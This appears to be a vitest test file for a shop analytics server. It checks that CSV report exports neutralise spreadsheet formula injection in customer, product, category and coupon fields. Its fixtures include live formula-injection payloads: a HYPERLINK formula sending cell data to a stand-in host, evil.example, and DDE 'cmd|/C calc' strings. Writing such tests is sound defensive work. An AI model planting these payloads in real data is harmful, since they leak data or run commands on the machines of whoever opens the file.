import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  type ExportStartResponseBody,
  type ExportStatusBody,
  exportReportTypes,
} from '@storelens/api';
import { parseCsv } from '@storelens/csv/testing';
import type { FastifyInstance } from 'fastify';
import { expect, it } from 'vitest';
import type { Db } from '../src/db/database';
import { ingestOrders } from '../src/ingest/ingest';
import { call } from './admin-helpers';
import { order } from './fixtures';
import { describeEachEngine } from './harness';
import { seedReports } from './reports-fixture';

/**
 * Every server export path writes its cells through @storelens/csv: text from the shop
 * (customer, product, category and coupon names, e-mails, cities, usernames) that a spreadsheet
 * would run as a formula arrives as text, and numbers, negative ones included, as numbers.
 */

const BASE = '/wp-json/wc-analytics/reports';
process.env.STORELENS_DATA_DIR = mkdtempSync(join(tmpdir(), 'storelens-exports-'));

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';
const CMD = "-2+3+cmd|' /C calc'!A0";
const AT = '@SUM(1+1)*cmd|"/C calc"!A0';
const PLUS = '+1 555 0100';

/** A formula-looking name for each kind of shop text the exports carry. */
async function hostileShop(db: Db) {
  await seedReports(db);
  await db.kysely.updateTable('products').set({ name: HYPERLINK }).where('id', '=', 10).execute();
  await db.kysely.updateTable('products').set({ sku: AT }).where('id', '=', 21).execute();
  await db.kysely.updateTable('products').set({ name: CMD }).where('id', '=', 20).execute();
  await db.kysely.updateTable('categories').set({ name: CMD }).where('id', '=', 100).execute();
  await db.kysely.updateTable('coupons').set({ code: AT }).where('id', '=', 900).execute();
  await db.kysely
    .updateTable('customers')
    .set({ first_name: HYPERLINK, last_name: '', username: AT, city: PLUS, postcode: CMD })
    .where('id', '=', 1)
    .execute();
  // An order's coupon code is kept as the order had it.
  await ingestOrders(db, [
    order(6, {
      created: '2024-05-20 10:00:00',
      lines: [{ id: 61, productId: 10, qty: 1, price: '10', discount: '1' }],
      coupon: { id: 901, code: AT, amount: '1' },
    }),
  ]);
}

/** Runs an export to its end and reads the file back through an RFC 4180 reader. */
async function exportRows(
  app: FastifyInstance,
  type: string,
  reportArgs: Record<string, unknown>,
): Promise<string[][]> {
  const start = await call<ExportStartResponseBody>(app, 'POST', `${BASE}/${type}/export`, {
    report_args: reportArgs,
  });
  expect(start.status, `${type}: ${JSON.stringify(start.body)}`).toBe(200);
  const id = start.body.export_id;
  expect(id, `${type}: ${JSON.stringify(start.body)}`).toMatch(/^\d+$/);
  for (let i = 0; i < 2000; i++) {
    const status = await call<ExportStatusBody>(app, 'GET', `${BASE}/${type}/export/${id}/status`);
    expect(status.status, JSON.stringify(status.body)).toBe(200);
    if (status.body.download_url) {
      const file = await app.inject({ method: 'GET', url: status.body.download_url });
      expect(file.statusCode).toBe(200);
      return parseCsv(file.body);
    }
    await new Promise((r) => setTimeout(r, 10));
  }
  throw new Error(`${type} export did not finish`);
}

/** The column of a header in a parsed file. */
const column = (rows: string[][], header: string) => {
  const at = rows[0]!.indexOf(header);
  expect(at, `${header} in ${rows[0]}`).toBeGreaterThanOrEqual(0);
  return rows.slice(1).map((row) => row[at]);
};

const MAY = { after: '2024-05-01T00:00:00', before: '2024-05-31T23:59:59' };

describeEachEngine(
  'exports write formulas as text',
  (ctx) => {
    it('neutralises a formula-looking customer name, username, city and postcode', async () => {
      const rows = await exportRows(ctx().app, 'customers', {});
      expect(column(rows, 'Name')).toContain(`'${HYPERLINK}`);
      expect(column(rows, 'Username')).toContain(`'${AT}`);
      expect(column(rows, 'City')).toContain(`'${PLUS}`);
      expect(column(rows, 'Postal code')).toContain(`'${CMD}`);
    });

    it('neutralises formula-looking product names and SKUs', async () => {
      const products = await exportRows(ctx().app, 'products', MAY);
      expect(column(products, 'Product title')).toEqual(
        expect.arrayContaining([`'${HYPERLINK}`, `'${CMD}`]),
      );
      const variations = await exportRows(ctx().app, 'variations', MAY);
      expect(column(variations, 'SKU')).toContain(`'${AT}`);
      const stock = await exportRows(ctx().app, 'stock', { type: 'all' });
      expect(column(stock, 'Product / Variation')).toContain(`'${HYPERLINK}`);
    });

    it('neutralises the product and coupon names inside an order row', async () => {
      const rows = await exportRows(ctx().app, 'orders', { ...MAY, orderby: 'date', order: 'asc' });
      const sixth = rows.find((row) => row[1] === '6')!;
      expect(sixth[rows[0]!.indexOf('Product(s)')]).toBe(`'${HYPERLINK}`);
      expect(sixth[rows[0]!.indexOf('Coupon(s)')]).toBe(`'${AT}`);
    });

    it('keeps numbers as numbers: the refunded day of the revenue export stays negative', async () => {
      const rows = await exportRows(ctx().app, 'revenue', { ...MAY, interval: 'day' });
      const refundDay = rows.find((row) => row[0]?.startsWith('2024-05-12'))!;
      expect(refundDay[rows[0]!.indexOf('Net sales')]).toBe('-30');
      expect(refundDay[rows[0]!.indexOf('Returns')]).toMatch(/^-?30$/);
    });

    it('leaves no cell of any report export starting as a formula', async () => {
      const args: Record<string, Record<string, unknown>> = {
        revenue: { ...MAY, interval: 'day' },
        stock: { type: 'all' },
        customers: {},
      };
      for (const type of exportReportTypes) {
        const rows = await exportRows(ctx().app, type, args[type] ?? MAY);
        expect(rows.length, type).toBeGreaterThan(1);
        for (const cell of rows.flat()) {
          if (/^-?\d+(?:\.\d+)?$/.test(cell)) continue;
          expect(cell, `${type}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
      const categories = await exportRows(ctx().app, 'categories', MAY);
      expect(column(categories, 'Category')).toContain(`'${CMD}`);
      const coupons = await exportRows(ctx().app, 'coupons', MAY);
      expect(column(coupons, 'Coupon code')).toContain(`'${AT}`);
    });
  },
  hostileShop,
);
